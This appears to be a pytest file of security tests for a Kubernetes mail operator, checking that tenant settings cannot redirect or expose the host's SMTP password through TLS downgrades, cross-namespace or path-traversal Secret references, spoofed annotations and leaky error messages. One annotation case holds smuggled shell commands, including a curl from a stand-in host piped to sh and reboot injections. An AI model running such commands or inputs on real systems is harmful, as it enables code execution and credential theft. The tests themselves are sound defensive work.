"""Endpoint and Secret: a password sent to a server that its owner did not mean."""

import pytest

from kit import arena as arena_kit
from kit import attacks

_OWN = attacks.server("smtp.example.org")


def _auth(**changes: object) -> dict[str, object]:
    return {"username": "robot", "passwordSecretRef": {"name": "smtp"}} | changes


PARTS = (
    attacks.Refused(
        name="port-alone",
        rules=("R3",),
        story="The organization sets only smtp.port, to keep the host's name and password and choose the service.",
        stopped_by="the group smtp is taken as a whole, and its host is required",
        spec={"smtp": {"port": 2525}},
        says="spec.smtp.host",
    ),
    attacks.Refused(
        name="tls-alone",
        rules=("R2", "R3"),
        story="The organization sets only smtp.tls.mode: Disabled, to have the host's password sent in clear.",
        stopped_by="the group smtp is taken as a whole, and its host is required",
        spec={"smtp": {"tls": {"mode": "Disabled"}}},
        says="spec.smtp.host",
    ),
    attacks.Refused(
        name="ca-alone",
        rules=("R2", "R3"),
        story="The organization sets only smtp.tls.caRef, to have the host's relay impersonated by its own CA.",
        stopped_by="the group smtp is taken as a whole, and its host is required",
        spec={"smtp": {"tls": {"caRef": {"kind": "ConfigMap", "name": "ca"}}}},
        says="spec.smtp.host",
    ),
    attacks.Refused(
        name="password-as-a-literal",
        rules=("R1",),
        story="The organization writes its password into the settings, where everybody who may read them reads it.",
        stopped_by="there is no such field",
        spec={"auth": _auth(password="hunter2")},
        says="auth.password",
        offline="password",
    ),
    attacks.Refused(
        name="secret-in-another-namespace",
        rules=("R3",),
        story="The organization names a Secret of the operator's namespace by a namespace field.",
        stopped_by="a reference has no namespace",
        spec={"auth": _auth(passwordSecretRef={"name": "relay-password", "namespace": arena_kit.SYSTEM})},
        says="passwordSecretRef.namespace",
        offline="namespace",
    ),
    attacks.Refused(
        name="secret-by-a-path",
        rules=("R3",),
        story="The organization names a Secret as ../../namespaces/mailtier-system/secrets/relay-password.",
        stopped_by="a name is the name of an object",
        spec={"auth": _auth(passwordSecretRef={"name": f"../../namespaces/{arena_kit.SYSTEM}/secrets/relay-password"})},
        says="must be the name of an object",
    ),
    attacks.Refused(
        name="secret-by-a-qualified-name",
        rules=("R3",),
        story="The organization names a Secret as mailtier-system/relay-password.",
        stopped_by="a name is the name of an object",
        spec={"auth": _auth(passwordSecretRef={"name": f"{arena_kit.SYSTEM}/relay-password"})},
        says="must be the name of an object",
    ),
    attacks.Refused(
        name="ca-in-another-namespace",
        rules=("R3", "R9"),
        story="The organization names a ConfigMap of another namespace as its CA bundle, to read what is in it.",
        stopped_by="a reference has no namespace",
        spec={
            "smtp": {
                "host": "smtp.example.org",
                "tls": {"caRef": {"kind": "Secret", "name": "relay-password", "namespace": arena_kit.SYSTEM}},
            }
        },
        says="caRef.namespace",
        offline="namespace",
    ),
    attacks.Refused(
        name="plaintext-by-its-own-leave",
        rules=("R2", "R3"),
        story="The organization says allowPlaintext: true, which is the host's word about its own password.",
        stopped_by="the field is the host's alone",
        spec={"auth": _auth(allowPlaintext=True)},
        says="auth.allowPlaintext",
        offline="allowPlaintext",
    ),
    attacks.Refused(
        name="own-password-in-clear",
        rules=("R2",),
        story="Whoever may write settings and not Secrets switches TLS off, to read the password on the network.",
        stopped_by="Disabled goes with Anonymous only",
        spec={"smtp": {"host": "smtp.example.org", "tls": {"mode": "Disabled"}}, "auth": _auth()},
        says="Disabled",
    ),
)

SETTINGS = (
    attacks.Judged(
        name="host-alone",
        rules=("R3",),
        story="The organization names a server of its own and no credentials, to be sent the host's.",
        stopped_by="credentials are inherited with the host's whole endpoint only",
        spec={"smtp": {"host": "smtp.example.org"}, "from": {"address": "robot@tenant.example"}},
        reason="CredentialsRequired",
    ),
    attacks.Judged(
        name="the-host-s-endpoint-once-more",
        rules=("R3",),
        story="The organization repeats the host's endpoint as its own, to inherit the credentials and not the policy.",
        stopped_by="credentials are inherited with the host's whole endpoint only",
        spec={"smtp": {"host": "127.0.0.1", "port": 2525}},
        host=arena_kit.host_spec(2525),
        reason="CredentialsRequired",
    ),
    attacks.Judged(
        name="the-host-s-secret-by-name",
        rules=("R3",),
        story="The organization names the host's Secret, hoping that it is looked up where the host's is.",
        stopped_by="an organization's references live in its namespace",
        spec=_OWN | {"auth": _auth(passwordSecretRef={"name": "smtp", "key": "relay-password"})},
        annotation=None,
        reason="SecretNotBound",
    ),
    attacks.Judged(
        name="secret-without-consent",
        rules=("R3",),
        story="Whoever may write settings and not Secrets names one that nobody has bound to a server.",
        stopped_by="the annotation on the Secret",
        spec=_OWN,
        annotation=None,
        reason="SecretNotBound",
    ),
    attacks.Judged(
        name="own-password-on-a-host-without-tls",
        rules=("R2",),
        story="The organization brings a password to a host's relay without TLS, where its colleagues read it.",
        stopped_by="a password does not cross a connection without TLS",
        spec={"auth": _auth()},
        host={
            "smtp": {"host": "relay.example.com", "tls": {"mode": "Disabled"}},
            "auth": {"mechanism": "Anonymous"},
            "from": {"address": "no-reply@example.com"},
        },
        reason="PlaintextRefused",
    ),
    attacks.Judged(
        name="the-host-s-leave-for-plaintext",
        rules=("R2", "R3"),
        story="The organization relies on the host's allowPlaintext for a password of its own.",
        stopped_by="the host's allowPlaintext covers its own credentials only",
        spec={"auth": _auth()},
        host={
            "smtp": {"host": "relay.example.com", "tls": {"mode": "Disabled"}},
            "auth": {"username": "u", "passwordSecretRef": {"name": "relay"}, "allowPlaintext": True},
            "from": {"address": "no-reply@example.com"},
        },
        reason="PlaintextRefused",
    ),
)


def _annotated(name: str, annotation: str, story: str, stopped_by: str, *unsaid: str) -> attacks.Judged:
    return attacks.Judged(
        name=name,
        rules=("R3", "R7") if unsaid else ("R3",),
        story=story,
        stopped_by=stopped_by,
        spec=_OWN,
        annotation=annotation,
        unsaid=unsaid,
        reason="SecretNotBound",
    )


ANNOTATIONS = (
    _annotated(
        "annotation-with-a-star",
        "*,*:*,*.example.org,smtp.*",
        "Whoever may annotate Secrets in bulk binds them to every server there is.",
        "consent is given to a server by its name",
    ),
    _annotated(
        "annotation-for-another-port",
        "smtp.example.org:465",
        "The settings name another service on the machine that the Secret is bound to.",
        "the annotation's port counts",
    ),
    _annotated(
        "annotation-for-a-parent",
        "example.org,.example.org,org",
        "The settings name a machine below the domain that the Secret is bound to.",
        "the whole name has to be listed",
    ),
    _annotated(
        "annotation-that-runs-on",
        "smtp.example.org.example.com,smtp.example.org@example.com,smtp.example.org:587:25",
        "An entry begins with the endpoint, for a parser that stops reading early.",
        "an entry is read as a whole or not at all",
    ),
    _annotated(
        "annotation-with-a-look-alike",
        "smtp.xn--exampe-cob.org,smtp.examp1e.org,s\uff4dtp.example.org",
        "An entry looks like the endpoint to a person who reviews it.",
        "names are compared as A-labels, letter by letter",
    ),
    _annotated(
        "annotation-by-unicode-s-rules",
        "\u00a0smtp.example.org,smtp.example.org\u2003:587,smtp.example.org:\uff15\uff18\uff17",
        "An entry becomes the endpoint where a parser strips, lowers or counts by Unicode's rules.",
        "names, blanks and ports are ASCII",
    ),
    _annotated(
        "annotation-with-a-command",
        "'; curl evil.example | sh; ',$(reboot),`reboot`",
        "The annotation holds shell commands, for the person who pastes the line that the status prints.",
        "only what was read as an endpoint is repeated",
        "curl",
        "reboot",
    ),
    _annotated(
        "annotation-with-a-line-break",
        "mail.example.com\nsmtp.example.org\r\n\u202esmtp.example.org",
        "The annotation hides an entry behind a line break or a bidirectional control.",
        "an entry is read as a whole or not at all",
        "\u202e",
    ),
)


STORIES = (
    attacks.Story(
        name="ca-from-a-secret-s-password",
        test="test_a_secret_named_as_ca_is_not_shown",
        rules=("R1", "R7"),
        story="The organization names a Secret it may not read as CA bundle, so that an error message shows it.",
        stopped_by="what is wrong with a bundle is told by position and kind",
    ),
    attacks.Story(
        name="password-from-a-private-key",
        test="test_a_private_key_named_as_password_is_not_shown",
        rules=("R1", "R7"),
        story="The organization names the key tls.key of a Secret as password, so that an error message shows it.",
        stopped_by="what is wrong with a value is told without the value",
    ),
)

ATTACKS = (*PARTS, *SETTINGS, *ANNOTATIONS, *STORIES)


@pytest.fixture(scope="module")
def played(arena: arena_kit.Arena) -> dict[str, arena_kit.Attacker]:
    """Return the tenants of the attacks that the operator judges, which all begin at once."""
    return attacks.begin(arena, (*SETTINGS, *ANNOTATIONS))


@pytest.mark.parametrize("attack", PARTS, ids=str)
def test_parts_of_an_endpoint_are_not_taken(arena: arena_kit.Arena, attack: attacks.Refused) -> None:
    """What could split a password from its endpoint is refused offline and by the API server (R1, R2, R3)."""
    attack.check(arena.rest)


@pytest.mark.parametrize("attack", [*SETTINGS, *ANNOTATIONS], ids=str)
def test_the_core_sends_no_password_elsewhere(attack: attacks.Judged) -> None:
    """The settings are blocked or unresolved, for the reason that helps (R2, R3, R7)."""
    attack.check_core()


@pytest.mark.parametrize("attack", [each for each in (*SETTINGS, *ANNOTATIONS) if each.host is None], ids=str)
def test_the_operator_sends_no_password_elsewhere(
    played: dict[str, arena_kit.Attacker], attack: attacks.Judged
) -> None:
    """The operator says the same of them as the core (R3, R7)."""
    attack.check_real(played[attack.name])


def test_a_secret_named_as_ca_is_not_shown(attacker: arena_kit.Attacker) -> None:
    """The message says what is wrong with the bundle and repeats nothing of it (R1, R7)."""
    value = attacker.arena.secret("ca-from-a-secret-s-password")
    attacker.bring(value, endpoint="smtp.example.org", name="other", key="ca.crt")
    tls = {"caRef": {"kind": "Secret", "name": "other"}}
    attacker.bring(attacker.arena.secret("beside it", username="robot"), endpoint="smtp.example.org")
    attacker.settings(attacks.server("smtp.example.org", **tls))
    told = attacker.until_reason("CaInvalid")
    assert value[:8] not in told["message"]


def test_a_private_key_named_as_password_is_not_shown(attacker: arena_kit.Attacker) -> None:
    """A value that cannot be a password is not repeated (R1, R7)."""
    value = attacker.arena.secret("password-from-a-private-key")
    key = f"-----BEGIN PRIVATE KEY-----\n{value}\n-----END PRIVATE KEY-----\n"
    attacker.bring(key, endpoint="smtp.example.org", key="tls.key")
    reference = {"name": "smtp", "key": "tls.key"}
    attacker.settings(attacks.server("smtp.example.org") | {"auth": _auth(passwordSecretRef=reference)})
    told = attacker.until_reason("SecretKeyMissing")
    assert value[:8] not in told["message"]
